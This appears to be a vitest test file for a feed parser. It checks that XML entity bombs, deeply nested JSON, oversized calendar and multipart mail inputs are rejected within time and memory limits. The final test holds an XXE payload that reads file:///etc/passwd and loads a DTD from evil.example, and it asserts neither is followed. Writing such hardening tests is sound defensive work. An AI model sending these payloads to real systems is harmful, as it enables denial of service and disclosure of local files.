import { describe, expect, test } from 'vitest';
import { read } from '../../src/river/read/read.ts';
import { drafts, rss, URL_HERE } from './documents.ts';

describe('row 12 (bombs): told apart within a second and 200 MB, nothing fetched', () => {
  const entities = (n: number, each: number): string =>
    `<!DOCTYPE rss [<!ENTITY l0 "lol">${[...Array(n).keys()].map((i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(each)}">`).join('')}]>`;
  const BOMBS: [string, string, string][] = [
    ['billion laughs', `${entities(9, 10)}${rss('<description>&l9;</description>')}`, 'bomb'],
    [
      'quadratic blow-up',
      `<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(50_000)}">]>${rss(`<description>${'&a;'.repeat(5_000)}</description>`)}`,
      'bomb',
    ],
    [
      'an entity that holds itself',
      `<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${rss('<description>&a;</description>')}`,
      'bomb',
    ],
    ['a bomb in an attribute', `${entities(9, 10)}${rss('<enclosure url="&l9;"/>')}`, 'bomb'],
    ['100,000 deep', `<rss>${'<a>'.repeat(100_000)}`, 'bomb'],
    [
      'a million character references',
      rss(`<description>${'&#65;'.repeat(1_000_000)}</description>`),
      'bomb',
    ],
    [
      'a hundred thousand items',
      `<rss><channel>${'<item><title>x</title></item>'.repeat(100_000)}</channel></rss>`,
      'bomb',
    ],
    [
      'a title of a million letters',
      `<rss><channel><title>t</title><item><title>${'x'.repeat(1_000_000)}</title></item></channel></rss>`,
      'bomb',
    ],
    [
      'JSON 100,000 deep',
      `{"version":"https://jsonfeed.org/version/1","title":"x","items":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
      'bomb',
    ],
    [
      'a hundred thousand JSON items',
      `{"version":"https://jsonfeed.org/version/1","title":"x","items":[${'{"id":"1"},'.repeat(100_000)}{}]}`,
      'bomb',
    ],
    [
      'a hundred thousand events',
      `BEGIN:VCALENDAR\n${'BEGIN:VEVENT\nDTSTART:20260101T000000Z\nSUMMARY:x\nEND:VEVENT\n'.repeat(100_000)}END:VCALENDAR`,
      'bomb',
    ],
    ['calendar parts within parts', `${'BEGIN:VCALENDAR\n'.repeat(100_000)}`, 'bomb'],
    [
      'an event every second for ever',
      'BEGIN:VCALENDAR\nBEGIN:VEVENT\nDTSTART:19000101T000000Z\nRRULE:FREQ=SECONDLY\nSUMMARY:x\nEND:VEVENT\nEND:VCALENDAR',
      'feed',
    ],
    [
      'a mail of many parts',
      `From: a@b.example\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n${'--x\r\n\r\na\r\n'.repeat(100_000)}`,
      'bomb',
    ],
  ];
  test.each(BOMBS)('%s', async (_, text, kind) => {
    const bytes = Buffer.from(text);
    let [seconds, megabytes] = [Number.POSITIVE_INFINITY, Number.POSITIVE_INFINITY];
    // The machine may be busy and the collector late: this thread's work, not the wall's clock, and the best of a few tries.
    for (let tries = 0; tries < 4 && (seconds >= 1 || megabytes >= 200); tries++) {
      const before = process.memoryUsage().rss;
      const cpu = process.threadCpuUsage();
      const r = await read(
        { bytes, url: URL_HERE },
        { window: { from: new Date('2026-01-01'), to: new Date('2026-12-31') } },
      );
      const { user, system } = process.threadCpuUsage(cpu);
      expect(r.kind).toBe(kind);
      if (r.kind !== 'feed') expect(r.message).toMatch(/^(Its?|This)\b.{10,200}\.$/);
      seconds = Math.min(seconds, (user + system) / 1e6);
      megabytes = Math.min(megabytes, (process.memoryUsage().rss - before) / 1e6);
    }
    expect(seconds).toBeLessThan(1);
    expect(megabytes).toBeLessThan(200);
  });

  test('external entities and parameter entities are never followed', async () => {
    const [d] = await drafts(
      `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; <!ENTITY y PUBLIC "a" "http://evil.example/">]>${rss('<description>a&x;b&y;c</description>')}`,
    );
    expect(d!.text).toBe('a&x;b&y;c');
  });
});
